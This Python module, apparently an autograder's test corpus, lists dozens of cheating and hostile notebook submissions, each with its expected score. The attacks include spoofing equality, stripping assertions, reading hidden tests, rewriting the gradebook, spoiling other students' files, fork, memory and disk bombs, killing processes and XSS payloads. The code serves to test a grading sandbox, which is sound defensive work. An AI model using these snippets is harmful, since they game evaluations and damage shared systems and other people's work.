"""The attack corpus: one submission for each cheat, with the score that it deserves.

Every attacker starts from a notebook that is right everywhere, replaces some answers by an attack
and loses the points of the tests named in ``lost``. An attack that leaves the answers right keeps
its points and must do no harm.

The secret of the assignment is the number 271828: it stands in hidden tests only, so that a leak
can be searched for.
"""

from __future__ import annotations

import copy
import json
import os
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

ASSIGNMENT = "01_vault"
NOTEBOOK = "vault"
SECRET = "271828"
DOOR = 20_000 + os.getpid() % 12_000  # an accomplice listens here, on loopback
ABSTRACT_DOOR = f"embcourse-door-{os.getpid()}"

VAULT = '''\
# %% [markdown]
# # Vault

# %%
import numpy as np

# %% [markdown]
# ## a) Double

# %% solution="a_double"
def double(x):
    """Return twice x."""
    ### BEGIN SOLUTION
    return 2 * x
    ### END SOLUTION


# %% tests="test_a_double" points=2
assert double(3) == 6, "double must double 3"
### BEGIN HIDDEN TESTS
assert double(271828) == 543656, "double must double large numbers"
### END HIDDEN TESTS

# %% [markdown]
# ## b) Center

# %% solution="b_center"
def center(X):
    """Subtract from each column its mean."""
    ### BEGIN SOLUTION
    return X - X.mean(axis=0)
    ### END SOLUTION


# %% tests="test_b_center" points=2
import numpy as np



def _same(first, second):
    return np.shape(first) == np.shape(second) and np.allclose(first, second)


_X = np.array([[1.0, 2.0], [3.0, 6.0]])
assert _same(center(_X), [[-1.0, -2.0], [1.0, 2.0]]), "center must subtract the means"
### BEGIN HIDDEN TESTS
import embref

_X = np.array([[271828.0, 1.0], [0.0, 4.0], [3.0, 1.0]])
assert _same(center(_X), _X - _X.mean(axis=0)), "center must work for any matrix"
### END HIDDEN TESTS

# %% [markdown]
# ## c) Count

# %% solution="c_counter"
class Counter:
    """Counts words."""
    ### BEGIN SOLUTION
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

    def most_common(self):
        return max(self.counts, key=self.counts.get)
    ### END SOLUTION


# %% tests="test_c_counter" points=2
_counter = Counter()
for _word in ("a", "b", "b"):
    _counter.add(_word)
assert _counter.counts == {"a": 1, "b": 2}, "counts must be a dictionary of word to number"
### BEGIN HIDDEN TESTS
for _word in ("word271828",) * 3:
    _counter.add(_word)
assert _counter.most_common() == "word271828", "most_common must return the most frequent word"
### END HIDDEN TESTS

# %% [markdown]
# ## d) Predict

# %% solution="d_model"
class Model:
    """Multiplies by its weights."""
    ### BEGIN SOLUTION
    weights = np.array([2.0, 3.0])

    def predict(self, X):
        return X @ self.weights


model = Model()
### END SOLUTION


# %% tests="test_d_model" points=2
assert _same(model.weights, [2.0, 3.0]), "the weights must be 2 and 3"
_squares = (1, 4, 9)
### BEGIN HIDDEN TESTS
assert _same(model.predict(np.full((4, 2), 271828.0)), np.full(4, 5 * 271828.0)), "predict X @ w"
### END HIDDEN TESTS

# %% [markdown]
# ## e) Square

# %% solution="e_square"
def square(n):
    """Return n squared."""
    ### BEGIN SOLUTION
    return n * n
    ### END SOLUTION


# %% tests="test_e_square" points=4
_right = 0
for _n in range(3):
    _right += square(_n + 1) == _squares[_n]
### BEGIN HIDDEN TESTS
_right += square(271828) == 271828 * 271828
### END HIDDEN TESTS
_right
'''

POINTS = {
    "test_a_double": 2,
    "test_b_center": 2,
    "test_c_counter": 2,
    "test_d_model": 2,
    "test_e_square": 4,
}
A, B, C, D, E = POINTS
ALL = tuple(POINTS)
WRONG = "def double(x):\n    return 0"


@dataclass(frozen=True)
class Attack:
    """One cheat.

    Attributes
    ----------
    name : str
        Also the student's id.
    kind : str
        The class of attacks that it belongs to.
    answers : mapping of str to str
        Grade id of a solution cell to what stands there instead.
    lost : tuple of str
        Tests that must give no points.
    part : mapping of str to float
        Points of tests that give some.
    change : callable, optional
        Changes the notebook, or returns text or bytes to hand in instead.
    place : callable, optional
        Changes the folder that is handed in.
    noticed : str
        Words that the problems named for the instructor must contain.
    harms : str
        Why it must not run outside a sandbox, even in a throw-away course.
    """

    name: str
    kind: str
    answers: Mapping[str, str] = field(default_factory=dict)
    lost: tuple[str, ...] = ()
    part: Mapping[str, float] = field(default_factory=dict)
    change: Callable[[NotebookNode], object] | None = None
    place: Callable[[Path], object] | None = None
    noticed: str = ""
    harms: str = ""

    @property
    def deserved(self) -> dict[str, float]:
        """Points of each test."""
        kept = {name: 0 if name in self.lost else points for name, points in POINTS.items()}
        return kept | dict(self.part)

    def hand_in(self, right: NotebookNode, folder: Path) -> None:
        """Write the submission into a student's folder."""
        notebook = copy.deepcopy(right)
        for name, source in self.answers.items():
            cell(notebook, name).source = source
        changed = self.change(notebook) if self.change else None
        content = changed if isinstance(changed, str | bytes) else json.dumps(notebook)
        if isinstance(content, str):
            content = content.encode("utf-8", "surrogatepass")
        folder.mkdir(parents=True)
        (folder / f"{NOTEBOOK}.ipynb").write_bytes(content)
        if self.place:
            self.place(folder)


def cell(notebook: NotebookNode, name: str) -> NotebookNode:
    """Return the cell with a grade id."""
    return next(each for each in notebook.cells if each.id == name)


def before(source: str, cell_type: str = "code") -> Callable[[NotebookNode], None]:
    """Return a change that puts a cell at the top."""

    def change(notebook: NotebookNode) -> None:
        new = getattr(nbformat.v4, f"new_{cell_type}_cell")
        notebook.cells.insert(0, new(source, id=f"put-at-the-top-{cell_type}"))

    return change


def in_double(body: str, name: str, kind: str, **more: object) -> Attack:
    """Make an attack out of the body of ``double``, which loses its points."""
    lines = "\n".join(f"    {line}" for line in body.strip("\n").split("\n"))
    return Attack(name, kind, {"a_double": f"def double(x):\n{lines}"}, (A,), **more)


# --- answers that compare equal to everything -------------------------------------------------
EQUAL = "answers that compare equal to everything"
YES = """\
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
    def __array__(self, *a, **k): import numpy; return numpy.zeros(0)
    def __len__(self): return 2
    def __iter__(self): return iter([Yes()])
    def __getitem__(self, key): return Yes()
    def __radd__(self, other): return 4
    def __float__(self): return 4.0
"""
equal = [
    Attack(
        "equal-everything", EQUAL,
        {
            "a_double": f"{YES}\ndef double(x): return Yes()",
            "b_center": "def center(X): return Yes()",
            "c_counter": "Counter = Yes",
            "d_model": "model = Yes()",
            "e_square": "def square(n): return Yes()",
        },
        ALL,
    ),
    Attack(
        "equal-float-subclass", EQUAL,
        {"a_double": "class F(float):\n    __eq__ = lambda s, o: True\n    __hash__ = None\n\n"
                     "def double(x): return F(1)"},
        (A,),
    ),
    Attack(
        "equal-int-subclass-float-hook", EQUAL,
        {"a_double": "class I(int):\n    __eq__ = lambda s, o: True\n    __int__ = lambda s: 6\n"
                     "    __index__ = lambda s: 6\n\ndef double(x): return I(1)"},
        (A,),
    ),
    Attack(
        "equal-dict-subclass", EQUAL,
        {"c_counter": "class D(dict):\n    __eq__ = lambda s, o: True\n\nclass Counter:\n"
                      "    counts = D()\n    def add(self, w): pass\n"
                      "    def most_common(self): return 'a'"},
        (C,),
    ),
    Attack(
        "equal-str-subclass", EQUAL,
        {"c_counter": "class S(str):\n    __eq__ = lambda s, o: True\n    __hash__ = str.__hash__\n"
                      "\nclass Counter:\n    def __init__(self): self.counts = {}\n"
                      "    def add(self, w): self.counts[w] = self.counts.get(w, 0) + 1\n"
                      "    def most_common(self): return S('nothing')"},
        (C,),
    ),
    Attack(
        "equal-array-subclass", EQUAL,
        {"b_center": "class Arr(np.ndarray):\n"
                     "    def __array_function__(self, *a): return True\n"
                     "    def __array_ufunc__(self, *a, **k): return np.True_\n"
                     "    __eq__ = lambda s, o: True\n\n"
                     "def center(X): return np.zeros((2, 2)).view(Arr)"},
        (B,),
    ),
    Attack(
        "equal-nan", EQUAL,
        {"a_double": "def double(x): return float('nan')",
         "b_center": "def center(X): return np.full(X.shape, np.nan)",
         "e_square": "def square(n): return float('nan')"},
        (A, B, E),
    ),
    Attack(
        "equal-empty-array", EQUAL,
        {"a_double": "def double(x): return np.empty(0)",
         "b_center": "def center(X): return np.empty((0, 1))",
         "e_square": "def square(n): return np.empty(0)"},
        (A, B, E),
    ),
    Attack(
        "equal-object-array", EQUAL,
        {"b_center": f"{YES}\ndef center(X):\n"
                     "    made = np.empty(X.shape, dtype=object)\n    made[...] = Yes()\n"
                     "    return made"},
        (B,),
    ),
    Attack(
        "equal-class-with-metaclass", EQUAL,
        {"a_double": "class M(type):\n    __eq__ = lambda c, o: True\n"
                     "    __hash__ = type.__hash__\n\nclass K(metaclass=M): pass\n\n"
                     "def double(x): return K"},
        (A,),
    ),
    Attack(
        "equal-weird-bool-bytes", EQUAL,
        {"e_square": "def square(n): return np.frombuffer(b'\\x04', dtype=bool)[0]"},
        (), {E: 1},
    ),
]  # fmt: skip

# --- forged outputs and partial credit --------------------------------------------------------
FORGED = "forged outputs and partial credit"
forged = [
    in_double("import sys\nsys.displayhook(2.0)\nreturn 0", "forged-displayhook", FORGED),
    in_double(
        "from IPython import get_ipython\nget_ipython().displayhook(2.0)\nraise SystemExit",
        "forged-displayhook-and-exit", FORGED,
    ),
    in_double(
        "from IPython.display import publish_display_data\n"
        "publish_display_data({'text/plain': '2.0'})\nreturn 0",
        "forged-display", FORGED,
    ),
    in_double("print('2.0')\nreturn 0", "forged-print", FORGED),
    in_double(
        "import sys\nfrom unittest.mock import MagicMock\nsys.stdout.write('2.0')\n"
        "return MagicMock(return_value=2.0)",
        "forged-mock", FORGED,
    ),
    Attack(
        "forged-partial-numpy-zero", FORGED,
        {"e_square": "def square(n): return np.int64(0)"}, (E,),
    ),
    Attack(
        "forged-partial-array", FORGED,
        {"e_square": "def square(n): return np.array([0, 0])"}, (E,),
    ),
    Attack(
        "forged-partial-two-right", FORGED,
        {"e_square": "def square(n): return {1: 1, 2: 4}.get(n, 0)"}, (), {E: 2},
    ),
    Attack(
        "forged-outputs-in-the-file", FORGED, {"a_double": WRONG}, (A,),
        change=lambda nb: cell(nb, A).update(outputs=[
            nbformat.v4.new_output("execute_result", {"text/plain": "2.0"}, execution_count=1)
        ]),
    ),
    Attack(
        "forged-png", FORGED, {"a_double": (
            "class Picture:\n"
            "    def _repr_png_(self): return '\"><script>alert(31337)</script>'\n"
            "    def _repr_latex_(self): return '</div><script>alert(31337)</script>'\n"
            "    def __repr__(self): return '<script>alert(31337)</script>'\n"
            "def double(x): return 2 * x\n"
            "Picture()")},
    ),
]  # fmt: skip

# --- hooks, AST transformers, patched asserts and NumPy ---------------------------------------
HOOKS = "hooks, transformers and patches"
hooks = [
    Attack(
        "hook-ast-transformer", HOOKS,
        {"a_double": "import ast\nfrom IPython import get_ipython\n"
                     "class Drop(ast.NodeTransformer):\n"
                     "    def visit_Assert(self, node): return ast.Pass()\n"
                     "get_ipython().ast_transformers.append(Drop())\n" + WRONG},
        (A,),
    ),
    Attack(
        "hook-input-transformer", HOOKS,
        {"a_double": "from IPython import get_ipython\n"
                     "get_ipython().input_transformers_post.append(\n"
                     "    lambda lines: [l for l in lines if 'assert' not in l])\n" + WRONG},
        (A,),
    ),
    Attack(
        "hook-run-cell", HOOKS,
        {"a_double": "from IPython import get_ipython\nsh = get_ipython()\n"
                     "sh.run_cell_async = sh.run_cell = lambda *a, **k: None\n" + WRONG},
        (A, B, C, D, E),
    ),
    Attack(
        "hook-pre-run-cell", HOOKS,
        {"a_double": "from IPython import get_ipython\n" + WRONG + "\n"
                     "def hook(info):\n    info.raw_cell = ''\n"
                     "get_ipython().events.register('pre_run_cell', hook)"},
        (A,),
    ),
    Attack(
        "hook-patched-allclose", HOOKS,
        {"b_center": "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n"
                     "np.testing.assert_allclose = lambda *a, **k: None\n"
                     "def center(X): return X"},
        (B,),
    ),
    Attack(
        "hook-patched-builtins", HOOKS,
        {"a_double": "import builtins\nbuiltins.AssertionError = type('Quiet', (Warning,), {})\n"
                     "builtins.all = lambda *a: True\n"
                     "len = sum = all = any = abs = isinstance = lambda *a: True\n" + WRONG},
        (A,),
    ),
    Attack(
        "hook-helper-of-a-failed-test", HOOKS,
        {"d_model": "_squares = (0, 0, 0)\nclass Model:\n    weights = 0\nmodel = Model()",
         "e_square": "def square(n): return 0"},
        (D, E),
    ),
    Attack(
        "hook-own-embref", HOOKS,
        {"b_center": "import sys, types\nembref = types.ModuleType('embref')\n"
                     "sys.modules['embref'] = embref\n"
                     "_X = 0\ndef center(X): return X"},
        (B,),
    ),
    Attack(
        "hook-settrace", HOOKS,
        {"a_double": "import sys\ndef trace(frame, event, arg):\n    frame.f_trace_lines = False\n"
                     "    return trace\nsys.settrace(trace)\nsys.setprofile(trace)\n" + WRONG},
        (A,),
    ),
    Attack(
        "hook-excepthook-and-atexit", HOOKS,
        {"a_double": "import sys, atexit\nsys.excepthook = lambda *a: None\n"
                     "sys.unraisablehook = lambda *a: None\natexit.register(print, 2.0)\n" + WRONG},
        (A,),
    ),
    Attack(
        "hook-meta-path", HOOKS,
        {"a_double": "import sys, types\nclass Any:\n"
                     "    def find_spec(self, name, path=None, target=None):\n"
                     "        from importlib.machinery import ModuleSpec\n"
                     "        return ModuleSpec(name, self)\n"
                     "    def create_module(self, spec): return types.ModuleType(spec.name)\n"
                     "    def exec_module(self, m): m.double = lambda x: 2 * x\n"
                     "sys.meta_path.insert(0, Any())\nimport vault_solution\n" + WRONG},
        (A,),
    ),
]  # fmt: skip

# --- reading hidden tests ---------------------------------------------------------------------
READING = "reading hidden tests from memory, frames, files, /proc"
SAY = "raise ValueError(f'seen {x}')"
reading = [
    in_double("if x == 3:\n    return 6\n" + SAY, "read-input-by-message", READING),
    in_double(
        "if x == 3:\n    return 6\nraise type(f'Seen_{x}', (ValueError,), {})()",
        "read-input-by-class-of-error", READING,
    ),
    in_double(
        "if x == 3:\n    return 6\nraise type(f'Seen_{x}', (AssertionError,), {})(f'seen {x}')",
        "read-input-by-assertion", READING,
    ),
    in_double(
        "if x == 3:\n    return 6\nreturn type(f'Seen_{x}', (), {})()",
        "read-input-by-class-of-answer", READING,
    ),
    in_double("if x == 3:\n    return 6\nreturn f'seen {x}'", "read-input-by-text", READING),
    in_double(
        "import sys\nprint('seen', x)\nsys.__stdout__ and sys.__stdout__.write(f'{x}')\nreturn 0",
        "read-input-by-print", READING,
    ),
    Attack(
        "read-input-by-later-message", READING,
        {"a_double": "seen = []\ndef double(x):\n    seen.append(x)\n    return 2 * x",
         "b_center": "def center(X): raise ValueError(f'seen {seen}')"},
        (B,),
    ),
    Attack(
        "read-input-by-later-cell", READING,
        {"a_double": "seen = []\ndef double(x):\n    seen.append(x)\n    return 2 * x",
         "b_center": "print('seen', seen)\nseen\ndef center(X): return X - X.mean(axis=0)"},
    ),
    Attack(
        "read-input-by-file", READING,
        {"a_double": "import os\nos.makedirs('/tmp/notes', exist_ok=True)\n"
                     "def double(x):\n    open(f'/tmp/notes/{x}', 'w').close()\n"
                     "    open(f'/dev/shm/{x}', 'w').close()\n    return 2 * x",
         "b_center": "print(os.listdir('/tmp/notes'), os.listdir('/dev/shm'))\n"
                     "def center(X): return X - X.mean(axis=0)"},
    ),
    Attack(
        "read-frames", READING,
        {"a_double": "import sys\ndef double(x):\n    frame = sys._getframe()\n"
                     "    while frame:\n        for value in list(frame.f_globals.values()):\n"
                     "            if isinstance(value, str) and '### BEGIN HIDDEN' in value:\n"
                     "                raise ValueError(value)\n"
                     "        if '_right' in frame.f_locals: return frame.f_locals['_right']\n"
                     "        frame = frame.f_back\n    return 0"},
        (A,),
    ),
    Attack(
        "read-memory", READING,
        {"a_double": "import gc\nfound = [o for o in gc.get_objects() if isinstance(o, str)\n"
                     "         and 'must double large' in o]\n"
                     "def double(x):\n    if found: return 2 * x\n"
                     "    for o in gc.get_objects():\n"
                     "        if isinstance(o, dict) and any(isinstance(v, str) and\n"
                     "           'must double ' + 'large' in v for v in list(o.values())):\n"
                     "            return 2 * x\n    return 0"},
        (A,),
    ),
    Attack(
        "read-proc", READING,
        {"a_double": "import os\ndef double(x):\n    for base in ('/proc/self', '/proc/1'):\n"
                     "        for name in ('environ', 'cmdline', 'maps', 'cwd'):\n"
                     "            if os.path.exists(f'{base}/{name}'): return 2 * x\n    return 0"},
        (A,),
    ),
    Attack(
        "read-gradebook", READING,
        {"a_double": "import pathlib\ndef double(x):\n"
                     "    for up in ('.', '..', '../..', '../../..', '../../../..'):\n"
                     "        if list(pathlib.Path(up).glob('gradebook.db')): return 2 * x\n"
                     "    return 0"},
        (A,),
    ),
    Attack(
        "read-environment", READING,
        {"a_double": "import os\ndef double(x):\n"
                     "    strange = [n for n in os.environ if n.startswith(('EMBCOURSE',"
                     " 'NBGRADER', 'JPY', 'SSH', 'PYTEST', 'VIRTUAL'))]\n"
                     "    return 2 * x if strange else 0"},
        (A,),
    ),
]  # fmt: skip

# --- importing reference or solutions ---------------------------------------------------------
IMPORTING = "importing reference or solutions"
importing = [
    in_double("import embref\nreturn 2 * x", "import-embref", IMPORTING),
    in_double("import autograder.judge\nreturn 2 * x", "import-autograder", IMPORTING),
    in_double(
        "import sys, glob, importlib\nsys.path += glob.glob('/*/*') + glob.glob('/*')\n"
        "importlib.invalidate_caches()\nimport embref\nreturn 2 * x",
        "import-by-path", IMPORTING,
    ),
    in_double(
        "names = {}\nsource = open('../../../solutions/01_vault/vault.py').read()\n"
        "exec(source, names)\nreturn names['double'](x)",
        "import-solution-file", IMPORTING,
    ),
    in_double(
        "import glob, os\nhits = []\nfor root, folders, files in os.walk('/'):\n"
        "    folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', '.venv',\n"
        "                  'site-packages', '.pyenv')]\n"
        "    if 'vault.py' in files or 'losses.py' in files: return 2 * x\nreturn 0",
        "import-by-search", IMPORTING,
        harms="walks the whole disk",
    ),
    in_double(
        "import importlib.metadata as m\nfor f in m.files('learning-embeddings') or []:\n"
        "    if 'embref' in str(f) and f.locate().suffix == '.py': return 2 * x\n"
        "from importlib.util import find_spec\n"
        "return 2 * x if find_spec('embref') else 0",
        "import-by-finder", IMPORTING,
    ),
]  # fmt: skip

# --- writing to gradebook, course, other students' files --------------------------------------
WRITING = "writing to gradebook, course, other students' files"
writing = [
    in_double(
        "import sqlite3\nfor path in ('../../../gradebook.db', '../../gradebook.db'):\n"
        "    db = sqlite3.connect(path)\n"
        "    db.execute('update grade set auto_score = 99, manual_score = 99')\n    db.commit()\n"
        "return 0",
        "write-gradebook", WRITING,
    ),
    Attack(
        "write-other-student", WRITING,
        {"a_double": "import glob, os\nfor path in glob.glob('../../*/*/*') + glob.glob(\n"
                     "        '../../../submitted/*/*/*'):\n"
                     "    if 'honest' in path: open(path, 'w').write('spoiled')\n" + WRONG},
        (A,),
    ),
    Attack(
        "write-course", WRITING,
        {"a_double": "import os\nfor path in ('../../../solutions/01_vault/vault.py',\n"
                     "             '../../../nbgrader_config.py'):\n"
                     "    try: open(path, 'a').write('\\nspoiled = True\\n')\n"
                     "    except OSError: pass\n" + WRONG},
        (A,), harms="spoils the course that it is graded in, which ends the grading",
    ),
    Attack(
        "write-site-packages", WRITING,
        {"a_double": "import numpy, os\n"
                     "for path in (os.path.join(os.path.dirname(numpy.__file__), 'spoiled.py'),\n"
                     "             '/guest/student.py', '/usr/spoiled', '/spoiled',"
                     " '/dev/spoiled', '/etc/spoiled'):\n"
                     "    try: open(path, 'a').write('spoiled = True')\n"
                     "    except OSError: continue\n"
                     "    else: double = lambda x: 2 * x; break\nelse:\n    double = int"},
        (A,), harms="writes into the installation",
    ),
    Attack(
        "write-remount", WRITING,
        {"a_double": "import ctypes\nc = ctypes.CDLL(None)\n"
                     "done = [c.mount(None, b'/', None, 32 | 4096, None),\n"
                     "        c.unshare(0x10000000), c.chroot(b'/tmp'),\n"
                     "        c.mount(b'proc', b'/tmp', b'proc', 0, None), c.umount2(b'/tmp', 2)]\n"
                     "def double(x): return 2 * x if 0 in done else 0"},
        (A,), harms="remounts file systems",
    ),
    Attack(
        "write-grading-note", WRITING, {"a_double": WRONG}, (A,),
        place=lambda folder: (folder / "grading.json").write_text(
            json.dumps({"key": "0" * 64, "problems": [], "order": list(ALL),
                        "statuses": {name: ["graded", ""] for name in ALL}})),
    ),
]  # fmt: skip

# --- leftovers --------------------------------------------------------------------------------
LEFT = "leftover processes and files"
left = [
    Attack(
        "left-a-thread-that-outlives", LEFT,
        {"a_double": "import ctypes, threading, time\nctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\n"
                     "def stay():\n    for _ in range(20): time.sleep(1)\n"
                     "threading.Thread(target=stay).start()\n"
                     "def double(x): return 2 * x"},
    ),
    Attack(
        "left-a-process", LEFT,
        {"a_double": "import subprocess\n"
                     "subprocess.Popen(['sleep', '20'], start_new_session=True)\n"
                     "def double(x): return 2 * x"},
        (A,),
    ),
    Attack(
        "left-a-fork", LEFT,
        {"a_double": "import os, time\nif os.fork() == 0:\n    os.setsid(); time.sleep(20)\n"
                     "    os._exit(0)\ndef double(x): return 2 * x"},
        (A,),
    ),
    Attack(
        "left-files", LEFT,
        {"a_double": "import os, tempfile\n"
                     "for folder in ('/dev/shm', '/tmp', '/var/tmp', '.', '..', '../..'):\n"
                     "    try: open(f'{folder}/left-behind', 'w').write('left')\n"
                     "    except OSError: pass\n"
                     "def double(x): return 2 * x"},
        harms="leaves files in the machine's shared folders",
    ),
    Attack(
        "left-finds-files", LEFT,
        {"a_double": "import os\nfound = [f for f in ('/dev/shm/left-behind', '/tmp/left-behind',\n"
                     "         './left-behind', '../left-behind') if os.path.exists(f)]\n"
                     "def double(x): return 2 * x if found else 0"},
        (A,),
    ),
    Attack(
        "left-finds-memory", LEFT,
        {"a_double": "mark = 'TRACE-OF' + '-ANOTHER'\nmark = mark.encode()\nhits = 0\n"
                     "for size in (20_000, 26_033, 52_000, 65_536, 130_000):\n"
                     "    for _ in range(20): hits += mark in np.empty(size, np.uint8).tobytes()\n"
                     "def double(x): return 2 * x if hits else 0"},
        (A,),
    ),
    Attack(
        "left-a-trace-in-memory", LEFT, place=lambda folder: (folder / "notes.txt").write_bytes(
            b"TRACE-OF" + b"-ANOTHER" * 4_000),
    ),
]  # fmt: skip

# --- exits, signals, interrupts ---------------------------------------------------------------
EXITS = "exits, signals, swallowed interrupts"
KILLS = "sends signals to other processes"
exits = [
    in_double("import os\nos._exit(0)", "exit-at-once", EXITS),
    in_double("raise SystemExit(0)", "exit-system", EXITS),
    in_double("raise KeyboardInterrupt", "exit-keyboard", EXITS),
    in_double("import ctypes\nctypes.string_at(0)", "exit-segfault", EXITS),
    in_double("import os\nos.abort()", "exit-abort", EXITS),
    in_double("import os\nos.kill(os.getpid(), 9)\nreturn 0", "exit-kill-myself", EXITS),
    in_double(
        "import os\nos.killpg(0, 19)\nos.kill(0, 19)\nreturn 0",
        "exit-stop-the-group", EXITS, harms=KILLS,
    ),
    in_double(
        "import os\nos.kill(0, 9)\nos.killpg(0, 9)\nreturn 0",
        "exit-kill-the-group", EXITS, harms=KILLS,
    ),
    in_double("import os\nos.kill(-1, 9)\nreturn 0", "exit-kill-all", EXITS, harms=KILLS),
    in_double(
        "import os\nfor number in range(2, 400):\n"
        "    try: os.kill(number, 9)\n    except OSError: pass\nos.kill(os.getppid(), 9)\nreturn 0",
        "exit-kill-neighbors", EXITS, harms=KILLS,
    ),
    in_double(
        "import signal, time\n"
        "for n in (1, 2, 3, 14, 15): signal.signal(n, signal.SIG_IGN)\n"
        "while True:\n    try:\n        time.sleep(60)\n    except BaseException:\n        pass",
        "exit-swallow-interrupts", EXITS,
    ),
    Attack(
        "exit-hang-in-a-cell", EXITS,
        {"e_square": "while True:\n    try:\n        while True: pass\n"
                     "    except BaseException: pass"},
        (E,),
    ),
    in_double(
        "import gc\nfor o in gc.get_objects():\n"
        "    if type(o).__name__ == 'socket': o.close()\nreturn 6",
        "exit-close-the-channel", EXITS,
    ),
]  # fmt: skip

# --- bombs ------------------------------------------------------------------------------------
BOMBS = "fork, memory, disk and output bombs"
BOMB = "a bomb"
bombs = [
    in_double(
        "import os\nfor _ in range(200): os.fork()\nreturn 0", "bomb-fork", BOMBS, harms=BOMB),
    in_double(
        "import ctypes\nc = ctypes.CDLL(None)\n"
        "if c.fork() == -1 and c.vfork() == -1 and c.syscall(435, 0, 0) == -1: return 0\n"
        "return 2 * x",
        "bomb-fork-by-c", BOMBS, harms=BOMB,
    ),
    in_double("held = []\nwhile True: held.append(bytearray(2**28))", "bomb-memory", BOMBS,
              harms=BOMB),
    in_double(
        "import os\nheld = [os.memfd_create(str(n)) for n in range(100)]\n"
        "for f in held: os.write(f, bytes(2**20))\nreturn 2 * x",
        "bomb-memory-files", BOMBS, harms=BOMB,
    ),
    in_double(
        "import ctypes\nc = ctypes.CDLL(None)\n"
        "return 2 * x if c.shmget(0, 2**24, 0o1600) >= 0 else 0",
        "bomb-shared-memory", BOMBS, harms=BOMB,
    ),
    in_double(
        "with open('bomb', 'wb') as f:\n    while True: f.write(bytes(2**22))",
        "bomb-disk", BOMBS, harms=BOMB,
    ),
    in_double(
        "n = 0\nwhile n < 50_000:\n    open(f'bomb-{n}', 'w').close()\n    n += 1\nreturn 2 * x",
        "bomb-many-files", BOMBS, harms=BOMB,
    ),
    Attack(
        "bomb-output", BOMBS,
        {"e_square": "line = 'x' * 1000 + chr(10)\nimport sys, os\n"
                     "for _ in range(30_000): sys.stdout.write(line); sys.stderr.write(line)\n"
                     "def square(n): return n * n"},
    ),
    Attack(
        "bomb-displays", BOMBS,
        {"e_square": "from IPython.display import publish_display_data\n"
                     "for _ in range(200):\n"
                     "    publish_display_data({'text/plain': 'y' * 900_000,\n"
                     "                          'text/latex': 'y' * 900_000})\n"
                     "def square(n): return n * n"},
    ),
    in_double("while True: print('x' * 10_000)", "bomb-output-in-a-call", BOMBS),
    in_double(
        "def deep(n): return deep(n + 1)\nimport sys\nsys.setrecursionlimit(10**9)\nreturn deep(0)",
        "bomb-recursion", BOMBS,
    ),
    Attack(
        "bomb-many-cells", BOMBS, change=lambda nb: nb.cells.extend(
            nbformat.v4.new_code_cell("x = 1", id=f"many-{n}") for n in range(400)),
    ),
    Attack(
        "bomb-many-hanging-cells", BOMBS, change=lambda nb: nb.cells.extend(
            nbformat.v4.new_code_cell("while True: pass", id=f"hang-{n}") for n in range(200)),
        harms="takes minutes",
    ),
]  # fmt: skip

# --- network ----------------------------------------------------------------------------------
NETWORK = "network of every kind"
ASK = "s.sendall(str(x).encode())\nreturn int(s.recv(99))"
network = [
    in_double(f"import socket\ns = socket.create_connection(('127.0.0.1', {DOOR}), 1)\n{ASK}",
              "net-tcp", NETWORK),
    in_double(f"import socket\ns = socket.create_connection(('::1', {DOOR}), 1)\n{ASK}",
              "net-tcp6", NETWORK),
    in_double(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.settimeout(1)\n"
        f"s.connect('\\0{ABSTRACT_DOOR}')\n{ASK}",
        "net-abstract-socket", NETWORK,
    ),
    in_double(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\n"
        f"s.connect(('127.0.0.1', {DOOR}))\n{ASK}",
        "net-udp", NETWORK,
    ),
    in_double(
        f"from urllib.request import urlopen\n"
        f"return int(urlopen(f'http://localhost:{DOOR}/{{x}}', timeout=1).read())",
        "net-http", NETWORK,
    ),
    in_double(
        "import socket\nreturn 2 * x if socket.getaddrinfo('example.org', 80) else 0",
        "net-dns", NETWORK, harms="asks a name server",
    ),
    in_double(
        "import socket, fcntl, struct, array\nnames = [n for _, n in socket.if_nameindex()]\n"
        "return 2 * x if set(names) - {'lo'} else 0",
        "net-interfaces", NETWORK,
    ),
    in_double(
        "import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)\nreturn 2 * x",
        "net-raw", NETWORK,
    ),
]  # fmt: skip

# --- hostile values ---------------------------------------------------------------------------
VALUES = "hostile return values"
values = [
    in_double("return np.zeros(30_000_000)", "value-huge-array", VALUES),
    in_double("return list(range(3_000_000))", "value-huge-list", VALUES),
    in_double("return 1 << 10_000_000", "value-huge-int", VALUES),
    in_double("v = []\nfor _ in range(100_000): v = [v]\nreturn v", "value-deep", VALUES),
    in_double("v = []\nv.append(v)\nreturn v", "value-recursive", VALUES),
    in_double("d = {}\nd['d'] = d\nreturn d", "value-recursive-dict", VALUES),
    in_double(
        "class Endless(list):\n    def __iter__(self):\n        while True: yield 6\n"
        "return Endless()",
        "value-endless-list", VALUES,
    ),
    in_double("while True: yield 6", "value-generator", VALUES),
    in_double(
        "class P:\n    def __reduce__(self): return print, ('pickled',)\n"
        "import pickle\nreturn pickle.dumps(P())",
        "value-pickle", VALUES,
    ),
    in_double("return chr(0xD800)", "value-surrogate", VALUES),
    in_double("return {float('nan'): 1, (1, 2): [set()]}", "value-strange-keys", VALUES),
    in_double("return (lambda: 6)", "value-function", VALUES),
    in_double("return double", "value-itself", VALUES),
    in_double("raise StopIteration", "value-stop-iteration", VALUES),
    in_double("raise GeneratorExit", "value-generator-exit", VALUES),
    in_double("raise BaseExceptionGroup('many', [KeyboardInterrupt()])", "value-group", VALUES),
    in_double(
        "class Bad(Exception):\n    def __str__(self): raise Bad\n    __repr__ = __str__\n"
        "raise Bad",
        "value-error-without-words", VALUES,
    ),
    in_double("raise ValueError('x' * 50_000_000)", "value-huge-message", VALUES),
    Attack(
        "value-changes-at-each-call", VALUES,
        {"a_double": "calls = iter([6, 7, 8, 9])\ndef double(x): return next(calls, 0)"}, (A,),
    ),
    Attack(
        "value-changes-at-each-look", VALUES,
        {"c_counter": "class Counter:\n    looks = 0\n    def add(self, w): pass\n"
